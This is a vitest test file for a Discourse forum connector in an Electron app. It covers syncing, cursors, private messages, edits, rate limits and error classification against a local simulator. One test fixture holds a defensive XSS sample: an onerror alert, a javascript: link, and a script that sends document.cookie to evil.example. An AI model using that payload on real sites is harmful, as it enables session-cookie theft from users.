// Discourse connector polling against the local Discourse simulator (real HTTP, real wire format),
// plus scripted responses for what a simulator cannot easily produce.
import { createServer } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  discourseConnector,
  EDIT_EVERY,
  type DiscourseCursor,
} from '../../../electron/core/connectors/discourse';
import { createRateLimiter } from '../../../electron/core/connectors/rateLimiter';
import {
  ConnectorError,
  type NormalizedItem,
  type PollResult,
  type SourceContext,
} from '../../../electron/core/connectors/types';
import {
  startDiscourseSimulator,
  type DiscourseSimulator,
} from '../../../electron/demo/simulators/discourse';
import { addTopics, fixture, json, KEY, scriptedCtx, simCtx, USER } from './helpers';

let sim: DiscourseSimulator;
beforeEach(async () => {
  sim = await startDiscourseSimulator({ seed: 7 });
  sim.addSite({ slug: 'acme', apiKey: KEY, apiUsername: USER, title: 'Acme Forum' });
});
afterEach(async () => {
  await sim.close();
});

const ids = (items: NormalizedItem[]) => items.map((i) => Number(i.message.externalId));
const postsGets = (slug = 'acme') =>
  sim.requests(slug).filter((r) => r.method === 'GET' && r.path === '/posts.json');
const errorOf = async (p: Promise<unknown>): Promise<ConnectorError> => {
  const e = await p.then(
    () => null,
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(ConnectorError);
  return e as ConnectorError;
};

/** Polls until `more` is false (bounded), returning every result. */
async function drain(ctx: SourceContext, cursor: unknown, max = 50): Promise<PollResult[]> {
  const out: PollResult[] = [];
  for (let i = 0; i < max; i++) {
    const r = await discourseConnector.poll(ctx, cursor);
    out.push(r);
    cursor = r.cursor;
    if (!r.more) return out;
  }
  throw new Error('poll never finished catching up');
}

describe('first sync', () => {
  it('imports only the newest `initialPages` pages, oldest first, and sets the cursor to the newest post', async () => {
    const firsts = addTopics(sim, 'acme', 130);
    const ctx = simCtx(sim, 'acme', { config: { initialPages: 2 } });
    const r = await discourseConnector.poll(ctx, null);
    const all = firsts.map((p) => p.id);
    expect(ids(r.items)).toEqual(all.slice(-100));
    expect(r.more).toBe(false);
    expect(r.rejected).toEqual([]);
    expect((r.cursor as DiscourseCursor).lastPostId).toBe(all[all.length - 1]);
    const gets = postsGets();
    expect(gets.map((g) => g.query)).toEqual(['', `before=${all[80]}`]);
    // The admin API headers went with every request; Accept asks for JSON.
    expect(
      gets.every((g) => g.apiUsername === USER && g.headers.accept === 'application/json'),
    ).toBe(true);
    expect(JSON.stringify(sim.requests('acme'))).not.toContain(KEY);
  });

  it('maps the simulator posts: titles, permalinks under the subfolder base URL, staff replies as outbound', async () => {
    sim.seed('acme', { topics: 6 });
    const r = await discourseConnector.poll(simCtx(sim, 'acme'), null);
    const posts = sim.posts('acme');
    expect(ids(r.items)).toEqual(posts.map((p) => p.id));
    for (const it of r.items) {
      const p = posts.find((x) => String(x.id) === it.message.externalId)!;
      const t = sim.topics('acme').find((x) => x.id === p.topic_id)!;
      expect(it.conversation.title).toBe(t.title);
      expect(it.message.url).toBe(`${sim.siteUrl('acme')}/t/${t.slug}/${t.id}/${p.post_number}`);
      expect(it.member.isStaff).toBe(p.username === USER);
      expect(it.member.avatarUrl).toMatch(new RegExp(`^${sim.url}/s/acme/letter_avatar_proxy/`));
      expect(it.message.bodyText.length).toBeGreaterThan(5);
    }
    expect(r.items.some((i) => i.member.isStaff)).toBe(true);
  });

  it('an empty forum gives an empty first sync and a zero cursor; the next poll gets the first post', async () => {
    const ctx = simCtx(sim, 'acme');
    const r = await discourseConnector.poll(ctx, null);
    expect(r.items).toEqual([]);
    expect(r.cursor).toMatchObject({ lastPostId: 0, catchUp: null });
    const p = sim.addMemberPost('acme', {
      title: 'The very first question here',
      raw: 'Hello?',
      username: 'first',
    });
    expect(ids((await discourseConnector.poll(ctx, r.cursor)).items)).toEqual([p.id]);
  });
});

describe('incremental sync', () => {
  it('gets exactly what is new, with one request per poll', async () => {
    addTopics(sim, 'acme', 10);
    const ctx = simCtx(sim, 'acme');
    const first = await discourseConnector.poll(ctx, null);
    sim.clearRequests('acme');
    const t = sim.topics('acme')[3]!;
    const a = sim.addMemberPost('acme', {
      topicId: t.id,
      raw: 'Follow-up: still broken.',
      username: 'member3',
    });
    const b = sim.addMemberPost('acme', {
      title: 'A brand new question today',
      raw: 'New one',
      username: 'newbie',
    });
    const second = await discourseConnector.poll(ctx, first.cursor);
    expect(ids(second.items)).toEqual([a.id, b.id]);
    expect(second.more).toBe(false);
    expect(sim.requests('acme')).toHaveLength(1);
    const third = await discourseConnector.poll(ctx, second.cursor);
    expect(third.items).toEqual([]);
    expect((third.cursor as DiscourseCursor).lastPostId).toBe(b.id);
  });

  it('a backlog larger than the page budget is delivered across polls, oldest first, each post exactly once', async () => {
    addTopics(sim, 'acme', 5);
    const ctx = simCtx(sim, 'acme', { config: { maxPagesPerPoll: 3 } });
    const start = await discourseConnector.poll(ctx, null);
    const backlog = addTopics(sim, 'acme', 400, 'Backlog').map((p) => p.id);
    const results = await drain(ctx, start.cursor);
    expect(results.length).toBeGreaterThan(1);
    expect(results[0]!.more).toBe(true);
    expect(results.at(-1)!.more).toBe(false);
    const delivered = results.flatMap((r) => ids(r.items));
    expect(delivered).toEqual(backlog);
    // No poll went over its request budget.
    expect(postsGets().length).toBeLessThanOrEqual(1 + results.length * 3);
    // Ids only ever increase across polls: a conversation opens with its first message.
    for (let i = 1; i < delivered.length; i++)
      expect(delivered[i]!).toBeGreaterThan(delivered[i - 1]!);
  });

  it('posts that arrive while catching up are picked up after it, none lost or repeated', async () => {
    addTopics(sim, 'acme', 3);
    const ctx = simCtx(sim, 'acme', { config: { maxPagesPerPoll: 2 } });
    let cursor = (await discourseConnector.poll(ctx, null)).cursor;
    const expected = addTopics(sim, 'acme', 260, 'Wave one').map((p) => p.id);
    const delivered: number[] = [];
    for (let i = 0; i < 60; i++) {
      const r = await discourseConnector.poll(ctx, cursor);
      delivered.push(...ids(r.items));
      cursor = r.cursor;
      if (i < 3) expected.push(...addTopics(sim, 'acme', 7, `Wave ${i + 2}`).map((p) => p.id));
      if (!r.more && i >= 3) break;
    }
    expect(delivered).toEqual(expected);
  });

  it('sparse ids (private messages, small actions, whispers, deleted and hidden posts in between) lose nothing', async () => {
    addTopics(sim, 'acme', 2);
    const ctx = simCtx(sim, 'acme', { config: { maxPagesPerPoll: 2 } });
    const start = await discourseConnector.poll(ctx, null);
    const expected: number[] = [];
    let n = 0;
    // A deterministic mixture: long runs of non-public posts, then dense public runs.
    for (let block = 0; block < 12; block++) {
      const hidden = block % 3 === 0 ? 180 : 7;
      for (let i = 0; i < hidden; i++)
        sim.addMemberPost('acme', {
          title: `Private matter ${block}-${i}`,
          raw: 'pm',
          username: 'pmuser',
          privateMessage: true,
        });
      const dense = block % 4 === 1 ? 70 : 9;
      for (let i = 0; i < dense; i++) {
        const p = sim.addMemberPost('acme', {
          title: `Public question ${block}-${i} here`,
          raw: `q ${++n}`,
          username: 'pub',
        });
        expected.push(p.id);
      }
      const t = sim.topics('acme').find((x) => x.archetype === 'regular')!;
      sim.addMemberPost('acme', { topicId: t.id, raw: 'whisper', username: 'mod', postType: 4 });
      const del = sim.addMemberPost('acme', {
        topicId: t.id,
        raw: 'to be deleted',
        username: 'spammer',
      });
      sim.deletePost('acme', del.id);
    }
    const delivered = (await drain(ctx, start.cursor, 200)).flatMap((r) => ids(r.items));
    expect(delivered).toEqual(expected);
  });

  it('an unreadable cursor falls back to a first sync (logged), never throws', async () => {
    addTopics(sim, 'acme', 3);
    const ctx = simCtx(sim, 'acme');
    const r = await discourseConnector.poll(ctx, { lastPostId: 'yesterday' });
    expect(r.items).toHaveLength(3);
    expect(ctx.logged.some((l) => l.startsWith('warn') && l.includes('cursor'))).toBe(true);
  });
});

describe('hostile and malformed items', () => {
  it('a malformed post is rejected with its reason; the rest of the page is still ingested', async () => {
    addTopics(sim, 'acme', 2);
    const ctx = simCtx(sim, 'acme');
    const start = await discourseConnector.poll(ctx, null);
    const good1 = sim.addMemberPost('acme', {
      title: 'Good question about shipping',
      raw: 'Shipping?',
      username: 'alice',
    });
    sim.malformedNext('acme', 1, 'created_at');
    const bad1 = sim.addMemberPost('acme', {
      title: 'This one has a broken date',
      raw: 'broken',
      username: 'mallory',
    });
    sim.malformedNext('acme', 1, 'both');
    sim.addMemberPost('acme', {
      title: 'This one has a broken id',
      raw: 'broken',
      username: 'mallory',
    });
    const good2 = sim.addMemberPost('acme', {
      title: 'Another good question: returns',
      raw: 'Returns?',
      username: 'bob',
    });
    const r = await discourseConnector.poll(ctx, start.cursor);
    expect(ids(r.items)).toEqual([good1.id, good2.id]);
    expect(r.rejected).toHaveLength(2);
    const reasons = r.rejected.map((x) => x.reason).sort();
    expect(reasons[0]).toBe(
      `Discourse post "post-${bad1.id + 1}" rejected: id Invalid input: expected number, received string; created_at is not an ISO-8601 date-time with an offset`,
    );
    expect(reasons[1]).toBe(
      `Discourse post ${bad1.id} rejected: created_at is not an ISO-8601 date-time with an offset`,
    );
    // The cursor moved past them: the next poll does not quarantine them again.
    const again = await discourseConnector.poll(ctx, r.cursor);
    expect(again.rejected).toEqual([]);
    expect(again.items).toEqual([]);
  });

  it('hostile HTML arrives as data: bodyHtml untouched, bodyText free of markup and script', async () => {
    const p = sim.addMemberPost('acme', {
      title: 'Weird formatting in my post?',
      raw: 'x',
      cooked:
        '<p>Hi</p><img src="x" onerror="alert(document.cookie)"><script>fetch("https://evil.example/?c="+document.cookie)</script><a href="javascript:alert(1)">click</a>',
      username: 'mallory',
    });
    const r = await discourseConnector.poll(simCtx(sim, 'acme'), null);
    const it = r.items.find((i) => i.message.externalId === String(p.id))!;
    expect(it.message.bodyHtml).toBe(p.cooked);
    expect(it.message.bodyText).toBe('Hi\n\nclick');
  });
});

describe('private messages, titles and edits', () => {
  it('with privateMessages on, PMs come from /private-posts.json as kind private_message; off, they are not read', async () => {
    sim.seed('acme', { topics: 3, privateMessages: 2 });
    const off = await discourseConnector.poll(simCtx(sim, 'acme'), null);
    expect(off.items.every((i) => i.conversation.kind === 'topic')).toBe(true);
    expect(sim.requests('acme').some((r) => r.path === '/private-posts.json')).toBe(false);

    const ctx = simCtx(sim, 'acme', { config: { privateMessages: true } });
    const on = await discourseConnector.poll(ctx, null);
    const pms = on.items.filter((i) => i.conversation.kind === 'private_message');
    expect(pms).toHaveLength(2);
    expect(pms.map((i) => i.conversation.title).sort()).toEqual([
      'Account question (private)',
      'Refund for order 40112',
    ]);
    const pmTopic = sim.topics('acme').find((t) => t.archetype === 'private_message')!;
    const reply = sim.addMemberPost('acme', {
      topicId: pmTopic.id,
      raw: 'Any news on my private question?',
      username: 'maria_k',
    });
    const next = await discourseConnector.poll(ctx, on.cursor);
    expect(next.items.map((i) => [i.message.externalId, i.conversation.kind])).toEqual([
      [String(reply.id), 'private_message'],
    ]);
    expect((next.cursor as DiscourseCursor).pm?.lastPostId).toBe(reply.id);
  });

  it('reads the recorded shape of /private-posts.json (root `private_posts`) next to /posts.json', async () => {
    const ctx = scriptedCtx(
      ({ url }) => {
        const u = new URL(url);
        if (u.pathname === '/posts.json') return json(fixture('posts_latest.json'));
        if (u.pathname === '/private-posts.json') return json(fixture('private_posts.json'));
        return json(fixture('not_found.json'), 404);
      },
      { config: { apiUsername: USER, privateMessages: true } },
    );
    const r = await discourseConnector.poll(ctx, null);
    const pms = r.items.filter((i) => i.conversation.kind === 'private_message');
    expect(pms.map((i) => [i.message.externalId, i.member.isStaff, i.conversation.title])).toEqual([
      ['7101', false, 'Close my account'],
      ['7102', true, 'Close my account'],
    ]);
    expect(r.cursor).toMatchObject({ lastPostId: 4812, pm: { lastPostId: 7102, catchUp: null } });
  });

  it('a post without topic_title gets its title from GET /t/{id}.json; a topic that is gone rejects the post with the reason', async () => {
    const [p1, , , p4] = fixture('posts_latest.json').latest_posts;
    const { topic_title: _a, ...noTitle } = p1;
    const { topic_title: _b, ...noTitle2 } = p4;
    const ctx = scriptedCtx(({ url }) => {
      if (url.endsWith('/posts.json'))
        return json({ latest_posts: [noTitle, { ...noTitle2, id: 4700, topic_id: 404 }] });
      if (url.endsWith('/t/913.json'))
        return json({ ...fixture('topic.json'), id: 913, title: 'Card declined (from the topic)' });
      if (url.endsWith('/t/404.json')) return json(fixture('not_found.json'), 404);
      return json({}, 500);
    });
    const r = await discourseConnector.poll(ctx, null);
    expect(r.items.map((i) => i.conversation.title)).toEqual(['Card declined (from the topic)']);
    expect(r.rejected.map((x) => x.reason)).toEqual([
      'Discourse post 4700 rejected: the title of topic 404 is unknown',
    ]);
    expect(ctx.calls.map((c) => new URL(c.url).pathname)).toEqual([
      '/posts.json',
      '/t/913.json',
      '/t/404.json',
    ]);
  });

  it(`an edit of an older post arrives within ${EDIT_EVERY} polls (topic re-read), with its new version`, async () => {
    sim.seed('acme', { topics: 1 });
    const ctx = simCtx(sim, 'acme');
    let cursor = (await discourseConnector.poll(ctx, null)).cursor;
    const post = sim.posts('acme')[0]!;
    sim.editPost('acme', post.id, 'Update: it works again after the latest release, thanks!');
    let edited: NormalizedItem | undefined;
    for (let i = 0; i < EDIT_EVERY && !edited; i++) {
      const r = await discourseConnector.poll(ctx, cursor);
      cursor = r.cursor;
      edited = r.items.find((x) => x.message.externalId === String(post.id));
    }
    expect(edited?.message).toMatchObject({
      version: 2,
      bodyText: 'Update: it works again after the latest release, thanks!',
    });
    expect(edited?.message.editedAt).toBeGreaterThanOrEqual(edited!.message.createdAt);
    expect(sim.requests('acme').filter((r) => r.path === `/t/${post.topic_id}.json`)).toHaveLength(
      1,
    );
  });
});

describe('errors', () => {
  it('429 from Discourse: rate_limited with Retry-After, and the source limiter then pauses', async () => {
    sim.failNext('acme', { status: 429, retryAfterSec: 7 });
    const ctx = simCtx(sim, 'acme');
    const err = await errorOf(discourseConnector.poll(ctx, null));
    expect(err).toMatchObject({ kind: 'rate_limited', retryAfterMs: 7000, status: 429 });
    expect(err.message).toBe('Rate limited by Discourse (HTTP 429); retry in 7 s');
    expect(ctx.limiter.delayMs()).toBeGreaterThan(6000);
    expect(ctx.limiter.delayMs()).toBeLessThanOrEqual(7000);
  });

  it('429 with only the JSON body: retryAfterMs from extras.wait_seconds; an HTTP-date Retry-After works too', async () => {
    const c1 = scriptedCtx([json(fixture('rate_limited.json'), 429)]);
    expect(await errorOf(discourseConnector.poll(c1, null))).toMatchObject({
      kind: 'rate_limited',
      retryAfterMs: 42_000,
    });
    expect(c1.limiter.delayMs()).toBeGreaterThan(41_000);
    const at = new Date(Date.now() + 90_000).toUTCString();
    const c2 = scriptedCtx([json({ errors: ['slow down'] }, 429, { 'Retry-After': at })]);
    const e2 = await errorOf(discourseConnector.poll(c2, null));
    expect(e2.retryAfterMs).toBeGreaterThan(85_000);
    expect(e2.retryAfterMs).toBeLessThanOrEqual(90_000);
  });

  it('the simulator per-site limit answers 429 with wait_seconds; the connector reports it', async () => {
    sim.rateLimit('acme', 2);
    const ctx = simCtx(sim, 'acme');
    await discourseConnector.poll(ctx, null);
    const c = (await discourseConnector.poll(ctx, null)).cursor;
    const err = await errorOf(discourseConnector.poll(ctx, c));
    expect(err.kind).toBe('rate_limited');
    expect(err.retryAfterMs).toBeGreaterThanOrEqual(50_000);
  });

  it("a bad API key is permanent, a fixed message with the status (not the platform's text), and never the key", async () => {
    const ctx = simCtx(sim, 'acme', { secret: 'wrong-key-abc123456' });
    const err = await errorOf(discourseConnector.poll(ctx, null));
    expect(err).toMatchObject({ kind: 'permanent', status: 403 });
    expect(err.message).toBe('Discourse refused the API key or username (HTTP 403)');
    expect(err.message).not.toContain('wrong-key-abc123456');
    const wrongUser = await errorOf(
      discourseConnector.poll(
        simCtx(sim, 'acme', { config: { apiUsername: 'someone_else' } }),
        null,
      ),
    );
    expect(wrongUser.kind).toBe('permanent');
  });

  it('a site that is down, or a closed port, is transient', async () => {
    sim.down('acme');
    expect((await errorOf(discourseConnector.poll(simCtx(sim, 'acme'), null))).kind).toBe(
      'transient',
    );
    const port = await new Promise<number>((ok) => {
      const srv = createServer();
      srv.listen(0, '127.0.0.1', () => {
        const p = (srv.address() as { port: number }).port;
        srv.close(() => ok(p));
      });
    });
    const refused = await errorOf(
      discourseConnector.poll(
        { ...simCtx(sim, 'acme'), baseUrl: `http://127.0.0.1:${port}/s/acme` },
        null,
      ),
    );
    expect(refused.kind).toBe('transient');
    expect(refused.message).toContain('ECONNREFUSED');
  });

  it('5xx and non-JSON answers to a GET are transient; a redirect is permanent and is not followed with the key', async () => {
    expect(
      (await errorOf(discourseConnector.poll(scriptedCtx([json({ errors: ['boom'] }, 503)]), null)))
        .kind,
    ).toBe('transient');
    expect(
      (
        await errorOf(
          discourseConnector.poll(
            scriptedCtx([new Response('<html>maintenance</html>', { status: 200 })]),
            null,
          ),
        )
      ).kind,
    ).toBe('transient');
    const c = scriptedCtx([
      new Response(null, {
        status: 301,
        headers: { Location: 'https://elsewhere.example/posts.json' },
      }),
    ]);
    const err = await errorOf(discourseConnector.poll(c, null));
    expect(err).toMatchObject({ kind: 'permanent', status: 301 });
    // Where it points is platform text (it could carry the key): not repeated.
    expect(err.message).toBe(
      'Discourse redirected GET /posts.json (HTTP 301): check the forum address',
    );
    expect(c.calls).toHaveLength(1);
    expect(c.calls[0]!.init?.redirect).toBe('manual');
  });

  it('every request waits for the source limiter first', async () => {
    addTopics(sim, 'acme', 3);
    const order: string[] = [];
    const limiter = createRateLimiter({ perMinute: 6000 });
    const ctx = simCtx(sim, 'acme', {
      limiter: {
        acquire: async (s) => {
          order.push('acquire');
          await limiter.acquire(s);
        },
        observe: (status, h, w) => {
          order.push(`observe ${status}`);
          limiter.observe(status, h, w);
        },
        delayMs: () => limiter.delayMs(),
      },
      http: (url, init) => {
        order.push('fetch');
        return fetch(url, init);
      },
    });
    await discourseConnector.poll(ctx, null);
    expect(order).toEqual(['acquire', 'fetch', 'observe 200']);
  });
});
